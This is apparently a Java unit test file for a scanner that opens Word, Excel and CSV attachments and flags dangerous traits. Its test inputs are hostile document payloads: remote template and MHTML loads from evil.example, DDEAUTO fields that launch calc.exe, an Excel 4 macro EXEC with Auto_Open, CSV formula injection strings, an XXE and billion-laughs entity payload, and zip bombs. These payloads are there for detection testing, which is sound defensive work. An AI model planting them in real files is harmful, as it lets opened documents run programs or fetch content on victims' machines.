package gyotaku.dissect.office;

import static org.assertj.core.api.Assertions.assertThat;

import gyotaku.dissect.Dissector;
import gyotaku.model.Limits;
import gyotaku.model.Truncated;
import gyotaku.model.mail.Enclosure;
import gyotaku.model.mail.Link;
import gyotaku.model.mail.Opened;
import gyotaku.model.mail.Trait;
import gyotaku.model.mail.Words;
import gyotaku.model.mail.Written;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class OoxmlReaderTest {

    private static Opened open(String name, byte[] bytes) {
        return new Dissector(Limits.standard()).open(new Enclosure(name, "", bytes, List.of()));
    }

    private static Opened open(ZipOf zip) {
        return open("a.docx", zip.bytes());
    }

    private static List<String> details(Opened opened, Trait.Kind kind) {
        return opened.traits().stream()
                .filter(trait -> trait.kind() == kind)
                .map(Trait::detail)
                .toList();
    }

    @Test
    void aPlainDocumentSaysItsWords() {
        Opened opened = open(ZipOf.word("<w:p><w:r><w:t>Pay your invoice</w:t></w:r></w:p>")
                .external("word/_rels/settings.xml.rels", "attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"));

        assertThat(opened.state()).isEqualTo(Opened.State.READ);
        assertThat(opened.traits()).isEmpty();
        assertThat(opened.texts()).extracting(Words::text).containsExactly("Pay your invoice\n");
    }

    @Test
    void aLinkIsToldWithItsWords() {
        Opened opened = open(ZipOf.word(
                        "<w:p><w:hyperlink r:id='rId1'><w:r><w:t>Pay </w:t></w:r><w:r><w:t>now</w:t></w:r></w:hyperlink></w:p>")
                .external("word/_rels/document.xml.rels", "hyperlink", "https://evil.example/pay"));

        assertThat(opened.links())
                .containsExactly(new Written("Pay now", "https://evil.example/pay", Link.Context.FILE, ""));
    }

    @ParameterizedTest
    @CsvSource({
        "attachedTemplate, https://evil.example/t.dotm, EXTERNAL_TEMPLATE",
        "attachedTemplate, \\\\evil.example\\s\\t.dotm, EXTERNAL_TEMPLATE",
        "oleObject, mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html, EXTERNAL_LOAD",
        "frame, https://evil.example/f, EXTERNAL_LOAD",
        "image, https://evil.example/i.png, EXTERNAL_LOAD"
    })
    void whatIsFetchedOnOpeningIsTold(String type, String target, Trait.Kind kind) {
        Opened opened = open(ZipOf.word("").external("word/_rels/settings.xml.rels", type, target));

        assertThat(details(opened, kind)).containsExactly(type + ": " + target);
        assertThat(opened.links()).extracting(Written::url).containsExactly(target);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<w:fldSimple w:instr=' DDEAUTO c:\\\\calc.exe \"x\" '/>",
                "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DD</w:instrText></w:r>"
                        + "<w:r><w:instrText>EAUTO c:\\\\calc.exe \"x\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>",
                "<w:fldChar w:fldCharType='begin'/><w:fldChar w:fldCharType='begin'/>"
                        + "<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText><w:fldChar w:fldCharType='end'/>"
                        + "<w:instrText> c:\\\\calc.exe \"x\"</w:instrText><w:fldChar w:fldCharType='end'/>"
            })
    void fieldsThatCallAnotherProgramAreFoundInPiecesToo(String body) {
        assertThat(details(open(ZipOf.word("<w:p>" + body + "</w:p>")), Trait.Kind.DDE))
                .containsExactly("DDEAUTO c:\\\\calc.exe \"x\"");
    }

    @Test
    void aHyperlinkFieldIsToldWithWhatItShows() {
        assertThat(open(ZipOf.word(
                                "<w:fldChar w:fldCharType='begin'/><w:instrText>HYPERLINK \"https://evil.example/\"</w:instrText>"
                                        + "<w:fldChar w:fldCharType='separate'/><w:t>Bank</w:t><w:fldChar w:fldCharType='end'/>"))
                        .links())
                .containsExactly(new Written("Bank", "https://evil.example/", Link.Context.FILE, ""));
    }

    @Test
    void macroSheetsAndTheirCommandsAreTold() {
        Opened opened = open(ZipOf.sheet(
                        "xl/macrosheets/sheet1.xml", "<macrosheet><c><f>EXEC(\"cmd /c echo\")</f></c></macrosheet>")
                .with("xl/workbook.xml", "<workbook><definedName name='_xlnm.Auto_Open'>x</definedName></workbook>"));

        assertThat(opened.shows(Trait.Kind.MACRO)).isTrue();
        assertThat(details(opened, Trait.Kind.AUTO_RUN)).containsExactly("_xlnm.Auto_Open");
        assertThat(details(opened, Trait.Kind.COMMAND))
                .singleElement()
                .asString()
                .contains("EXEC(\"cmd /c echo\")");
    }

    @Test
    void anEmbeddedFileIsOpenedItself() {
        Opened opened = open(ZipOf.word("")
                .with("word/embeddings/in.docx", ZipOf.word("<w:t>inner</w:t>").bytes()));

        assertThat(opened.shows(Trait.Kind.EMBEDDED_OBJECT)).isTrue();
        assertThat(opened.files().getFirst().opened().texts().getFirst().text()).isEqualTo("inner");
    }

    @Test
    void entitiesAreNeitherFetchedNorExpanded() throws Exception {
        try (ServerSocket outside = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            outside.setSoTimeout(300);
            String evil = "<!DOCTYPE x SYSTEM 'http://127.0.0.1:" + outside.getLocalPort() + "/d' ["
                    + "<!ENTITY e SYSTEM 'http://127.0.0.1:" + outside.getLocalPort() + "/e'>"
                    + "<!ENTITY a '" + "lol".repeat(100) + "'><!ENTITY b '" + "&a;".repeat(1000) + "'>"
                    + "<!ENTITY c '" + "&b;".repeat(1000) + "'>"
                    + "<!ENTITY % p SYSTEM 'http://127.0.0.1:" + outside.getLocalPort() + "/p'> %p;]>";
            for (String part : List.of("word/document.xml", "word/_rels/document.xml.rels", "customXml/item1.xml")) {
                Opened opened = open(ZipOf.word("").with(part, evil + "<t>&e;&c;</t>"));
                assertThat(opened.texts().stream()
                                .mapToInt(words -> words.text().length())
                                .sum())
                        .isLessThan(100);
            }
            Assertions.assertThatThrownBy(outside::accept).isInstanceOf(SocketTimeoutException.class);
        }
    }

    @Test
    void aPartThatUnpacksToHundredsOfMegabytesIsABomb() {
        Opened opened = open(ZipOf.word("").with("word/header1.xml", new byte[40 << 20]));

        assertThat(opened.shows(Trait.Kind.BOMB)).isTrue();
        assertThat(opened.truncated()).extracting(Truncated::limit).contains("partBytes");
    }

    /// Office mends a file whose directory is cut off, and many filters cannot open it.
    @Test
    void aDocumentWithoutItsDirectoryIsMended() {
        byte[] whole =
                ZipOf.word("<w:fldSimple w:instr='DDEAUTO c:\\\\echo inert'/>").bytes();
        int directory = new String(whole, StandardCharsets.ISO_8859_1).indexOf("PK\u0001\u0002");
        Opened opened = open("a.docx", java.util.Arrays.copyOf(whole, directory));

        assertThat(opened.state()).isEqualTo(Opened.State.BROKEN);
        assertThat(opened.shows(Trait.Kind.DDE)).isTrue();
    }

    @Test
    void ofAPartThatStandsThereTwiceBothAreRead() {
        byte[] twice = new String(
                        ZipOf.word("<w:fldSimple w:instr='DDEAUTO c:\\\\echo inert'/>")
                                .with("word/dOcument.xml", "<t>harmless</t>")
                                .bytes(),
                        StandardCharsets.ISO_8859_1)
                .replace("word/dOcument.xml", "word/document.xml")
                .getBytes(StandardCharsets.ISO_8859_1);
        Opened opened = open("a.docx", twice);

        assertThat(opened.shows(Trait.Kind.AMBIGUOUS)).isTrue();
        assertThat(opened.shows(Trait.Kind.DDE)).isTrue();
        assertThat(opened.texts()).extracting(Words::text).contains("harmless");
    }

    @Test
    void macrosInTheFormOfSavedPagesAreFound() throws Exception {
        byte[] project = VbaOf.module("M", "Sub AutoOpen()\nMsgBox 1\nEnd Sub\n");
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        out.writeBytes("ActiveMime".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[0x32 - 10]);
        try (java.util.zip.DeflaterOutputStream deflater = new java.util.zip.DeflaterOutputStream(out)) {
            deflater.write(project);
        }

        assertThat(open("editdata.mso", out.toByteArray()).shows(Trait.Kind.AUTO_RUN))
                .isTrue();
    }

    @Test
    void elementsNestedWithoutEndAreGivenUpOn() throws Exception {
        Opened[] opened = new Opened[1];
        byte[] deep = ZipOf.word("<w:p>".repeat(200_000)).bytes();
        Thread small = new Thread(null, () -> opened[0] = open("a.docx", deep), "small stack", 512 << 10);
        small.start();
        small.join();

        assertThat(opened[0].state()).isEqualTo(Opened.State.BROKEN);
        assertThat(opened[0].detail()).contains("nested deeper");
    }

    @Test
    void aFileThatHoldsItselfEnds() {
        byte[] inner = ZipOf.word("<w:t>x</w:t>").bytes();
        for (int i = 0; i < 20; i++) {
            inner = ZipOf.word("").with("word/embeddings/in.docx", inner).bytes();
        }
        assertThat(open("a.docx", inner).all().count()).isLessThan(10);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"=cmd|'/c calc'!A0", "a,+cmd|'/c calc'!A0", "\"=cmd|'/c calc'!A0\"", "=DDE(\"cmd\";\"/c\";\"x\")"
            })
    void aTableThatCallsAProgramIsTold(String line) {
        assertThat(open("a.csv", ("x,y\n" + line).getBytes(StandardCharsets.UTF_8))
                        .shows(Trait.Kind.DDE))
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"=A1+B1", "a|b|c!", "-1,2|3", "mail: a|b, hello!"})
    void aTableOfWordsAndSumsIsNot(String line) {
        assertThat(open("a.csv", ("x,y\n" + line).getBytes(StandardCharsets.UTF_8))
                        .traits())
                .isEmpty();
    }
}
